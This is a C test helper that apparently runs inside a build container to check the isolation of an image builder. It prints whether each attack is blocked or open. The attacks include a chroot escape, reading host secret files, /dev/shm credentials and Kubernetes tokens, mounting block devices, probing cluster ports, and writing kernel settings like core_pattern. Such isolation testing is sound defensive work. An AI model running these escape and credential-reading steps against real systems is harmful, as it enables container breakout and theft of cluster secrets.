/* What a hostile Dockerfile's RUN step tries, built static by tests/isolation.rs and copied into
 * the image it builds. Each attempt prints one line:
 *   ATTACK <name>: blocked (<why>)    the attempt failed, as it must
 *   ATTACK <name>: OPEN <what>        the attempt succeeded: the test fails on it
 * and a few facts for the test to check:
 *   REPORT uid_map <first line of /proc/self/uid_map>
 *   REPORT CapEff <hex> / REPORT CapBnd <hex>
 *
 * Usage: attack [--hold SECONDS] <secret-file>... -- <host:port>...
 * With --hold it waits that long after its last line ("ATTACK holding"), so that the test
 * can read its uid map from the host's side.
 * The secret files are paths on the builder's host (or its container) that must stay out of
 * reach; the addresses are ports of the service, the node and the cluster that must not answer. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

static void blocked(const char *name, const char *why) {
  printf("ATTACK %s: blocked (%s)\n", name, why);
}

static void open_(const char *name, const char *what) {
  printf("ATTACK %s: OPEN %s\n", name, what);
}

/* Reads up to 64 bytes of `path`; 1 if anything was read. */
static int readable(const char *path, char *out, size_t size) {
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return 0;
  ssize_t n = read(fd, out, size - 1);
  close(fd);
  if (n <= 0) return 0;
  out[n] = 0;
  for (ssize_t i = 0; i < n; i++)
    if (out[i] == '\n') out[i] = ' ';
  return 1;
}

static void report_line(const char *path, const char *prefix, const char *label) {
  FILE *f = fopen(path, "r");
  char line[256];
  if (!f) return;
  while (fgets(line, sizeof line, f)) {
    if (strncmp(line, prefix, strlen(prefix)) == 0) {
      printf("REPORT %s %s", label, line + strlen(prefix));
      break;
    }
  }
  fclose(f);
}

/* The classic escape: chroot into a subfolder, climb past the root, chroot to what is there,
 * then look for the secrets. Run in a child so that a success does not move the others. */
static void chroot_escape(char **secrets, int nsecrets) {
  pid_t pid = fork();
  if (pid == 0) {
    mkdir("/.attack-escape", 0700);
    if (chroot("/.attack-escape") != 0) {
      blocked("chroot-escape", strerror(errno));
      _exit(0);
    }
    for (int i = 0; i < 256; i++) chdir("..");
    if (chroot(".") != 0) {
      blocked("chroot-escape", strerror(errno));
      _exit(0);
    }
    char buf[64];
    for (int i = 0; i < nsecrets; i++) {
      if (readable(secrets[i], buf, sizeof buf)) {
        char what[512];
        snprintf(what, sizeof what, "read %s after the escape: %s", secrets[i], buf);
        open_("chroot-escape", what);
        _exit(0);
      }
    }
    blocked("chroot-escape", "climbed to the container's own root: no secret there");
    _exit(0);
  }
  waitpid(pid, NULL, 0);
}

static void secrets_direct(char **secrets, int nsecrets) {
  char buf[64];
  for (int i = 0; i < nsecrets; i++) {
    char name[300];
    snprintf(name, sizeof name, "read-secret %s", secrets[i]);
    if (readable(secrets[i], buf, sizeof buf))
      open_(name, buf);
    else
      blocked(name, strerror(errno));
  }
  /* The local builder's credentials files live in the host's /dev/shm. */
  DIR *shm = opendir("/dev/shm");
  int found = 0;
  if (shm) {
    struct dirent *e;
    while ((e = readdir(shm)))
      if (strstr(e->d_name, "auth.json")) {
        found = 1;
        open_("credentials-in-dev-shm", e->d_name);
      }
    closedir(shm);
  }
  if (!found) blocked("credentials-in-dev-shm", "no credentials file in /dev/shm");
  const char *token = "/var/run/secrets/kubernetes.io/serviceaccount/token";
  char buf2[64];
  if (readable(token, buf2, sizeof buf2))
    open_("service-account-token", "read the pod's token");
  else
    blocked("service-account-token", strerror(errno));
}

/* Every block device the kernel lists: open it where /dev has it, then through a node of our
 * own; then try to mount it. */
static void block_devices(void) {
  FILE *f = fopen("/proc/partitions", "r");
  char line[256];
  int tried = 0;
  if (!f) {
    blocked("block-devices", "no /proc/partitions");
    return;
  }
  mkdir("/tmp", 01777);
  mkdir("/tmp/attack-mnt", 0700);
  while (fgets(line, sizeof line, f)) {
    unsigned maj, min;
    unsigned long long blocks;
    char devname[128];
    if (sscanf(line, " %u %u %llu %127s", &maj, &min, &blocks, devname) != 4) continue;
    tried++;
    char path[256], name[300], buf[512];
    snprintf(path, sizeof path, "/dev/%s", devname);
    snprintf(name, sizeof name, "read-device %s", path);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd >= 0 && read(fd, buf, sizeof buf) > 0)
      open_(name, "read its first sector");
    else
      blocked(name, strerror(errno));
    if (fd >= 0) close(fd);

    snprintf(path, sizeof path, "/tmp/attack-%s", devname);
    snprintf(name, sizeof name, "mknod-device %s (%u:%u)", devname, maj, min);
    unlink(path);
    if (mknod(path, S_IFBLK | 0600, makedev(maj, min)) != 0) {
      blocked(name, strerror(errno));
    } else {
      fd = open(path, O_RDONLY | O_CLOEXEC);
      if (fd >= 0 && read(fd, buf, sizeof buf) > 0)
        open_(name, "read its first sector through a node of its own");
      else
        blocked(name, fd < 0 ? strerror(errno) : "read failed");
      if (fd >= 0) close(fd);
    }
    const char *types[] = {"ext4", "xfs", "btrfs", "vfat"};
    snprintf(name, sizeof name, "mount-device %s", devname);
    int mounted = 0;
    int err = 0;
    for (unsigned t = 0; t < sizeof types / sizeof *types && !mounted; t++) {
      if (mount(path, "/tmp/attack-mnt", types[t], MS_RDONLY, NULL) == 0)
        mounted = 1;
      else
        err = errno;
    }
    if (mounted) {
      open_(name, "mounted a host file system");
      umount("/tmp/attack-mnt");
    } else {
      blocked(name, strerror(err));
    }
  }
  fclose(f);
  if (!tried) blocked("block-devices", "no partitions listed");
  /* A fresh proc or sysfs would show the host's view if the namespaces let it. */
  if (mount("proc", "/tmp/attack-mnt", "proc", 0, NULL) == 0) {
    open_("mount-proc", "mounted a new proc");
    umount("/tmp/attack-mnt");
  } else {
    blocked("mount-proc", strerror(errno));
  }
}

/* The service, buildah, the kubelet or any process outside the step's own. */
static void processes(void) {
  DIR *proc = opendir("/proc");
  struct dirent *e;
  int count = 0, foreign = 0;
  char seen[512] = "";
  if (!proc) {
    blocked("see-processes", strerror(errno));
    return;
  }
  while ((e = readdir(proc))) {
    if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
    count++;
    char path[300], cmd[128];
    snprintf(path, sizeof path, "/proc/%s/cmdline", e->d_name);
    if (!readable(path, cmd, sizeof cmd)) continue;
    const char *outside[] = {"image-builder", "buildah", "unshare", "kubelet", "containerd",
                             "kube-apiserver", "etcd"};
    for (unsigned i = 0; i < sizeof outside / sizeof *outside; i++)
      if (strstr(cmd, outside[i])) {
        foreign = 1;
        strncat(seen, cmd, sizeof seen - strlen(seen) - 2);
        strncat(seen, ";", sizeof seen - strlen(seen) - 1);
      }
  }
  closedir(proc);
  printf("REPORT processes %d\n", count);
  if (foreign)
    open_("see-processes", seen);
  else
    blocked("see-processes", "only the step's own processes are visible");
}

static void connect_to(const char *target) {
  char host[128], name[200];
  snprintf(name, sizeof name, "connect %s", target);
  const char *colon = strrchr(target, ':');
  if (!colon || (size_t)(colon - target) >= sizeof host) {
    blocked(name, "bad address");
    return;
  }
  memcpy(host, target, colon - target);
  host[colon - target] = 0;
  struct sockaddr_in addr = {.sin_family = AF_INET, .sin_port = htons(atoi(colon + 1))};
  if (inet_pton(AF_INET, host, &addr.sin_addr) != 1) {
    blocked(name, "not an IPv4 address");
    return;
  }
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  if (fd < 0) {
    blocked(name, strerror(errno));
    return;
  }
  int rc = connect(fd, (struct sockaddr *)&addr, sizeof addr);
  int err = rc == 0 ? 0 : errno;
  if (rc != 0 && errno == EINPROGRESS) {
    struct pollfd p = {.fd = fd, .events = POLLOUT};
    if (poll(&p, 1, 2000) == 1) {
      socklen_t len = sizeof err;
      getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &len);
    } else {
      err = ETIMEDOUT;
    }
  }
  close(fd);
  if (err == 0)
    open_(name, "connected");
  else
    blocked(name, strerror(err));
}

/* Opens a kernel setting for writing and writes back what it holds already (a success changes
 * nothing); `fallback` when it cannot be read (NULL: open only). */
static void write_setting(const char *path, const char *fallback) {
  char name[300], value[128] = "";
  snprintf(name, sizeof name, "write %s", path);
  int known = readable(path, value, sizeof value);
  if (!known && fallback) {
    snprintf(value, sizeof value, "%s", fallback);
    known = 1;
  }
  /* Files like transparent_hugepage/enabled show "always [madvise] never": write the choice. */
  char *open_bracket = strchr(value, '['), *close_bracket = strchr(value, ']');
  if (open_bracket && close_bracket && close_bracket > open_bracket) {
    *close_bracket = 0;
    memmove(value, open_bracket + 1, strlen(open_bracket + 1) + 1);
  }
  size_t len = strlen(value);
  while (len > 0 && value[len - 1] == ' ') value[--len] = 0;
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd < 0) {
    blocked(name, strerror(errno));
    return;
  }
  if (!known || len == 0 || write(fd, value, len) >= 0)
    open_(name, "opened for writing");
  else
    blocked(name, strerror(errno));
  close(fd);
}

int main(int argc, char **argv) {
  int hold = 0;
  if (argc > 2 && strcmp(argv[1], "--hold") == 0) {
    hold = atoi(argv[2]);
    argv += 2;
    argc -= 2;
  }
  char **secrets = argv + 1;
  int nsecrets = 0;
  while (1 + nsecrets < argc && strcmp(argv[1 + nsecrets], "--") != 0) nsecrets++;
  setvbuf(stdout, NULL, _IOLBF, 0);

  report_line("/proc/self/uid_map", "", "uid_map");
  report_line("/proc/self/status", "CapEff:", "CapEff");
  report_line("/proc/self/status", "CapBnd:", "CapBnd");
  chroot_escape(secrets, nsecrets);
  secrets_direct(secrets, nsecrets);
  block_devices();
  processes();
  for (int i = 2 + nsecrets; i < argc; i++) connect_to(argv[i]);
  write_setting("/proc/sys/vm/drop_caches", "1");
  write_setting("/proc/sys/kernel/core_pattern", NULL);
  write_setting("/sys/kernel/mm/transparent_hugepage/enabled", NULL);
  write_setting("/sys/kernel/uevent_helper", NULL);
  puts("ATTACK done");
  if (hold > 0) {
    puts("ATTACK holding");
    sleep(hold);
  }
  return 0;
}
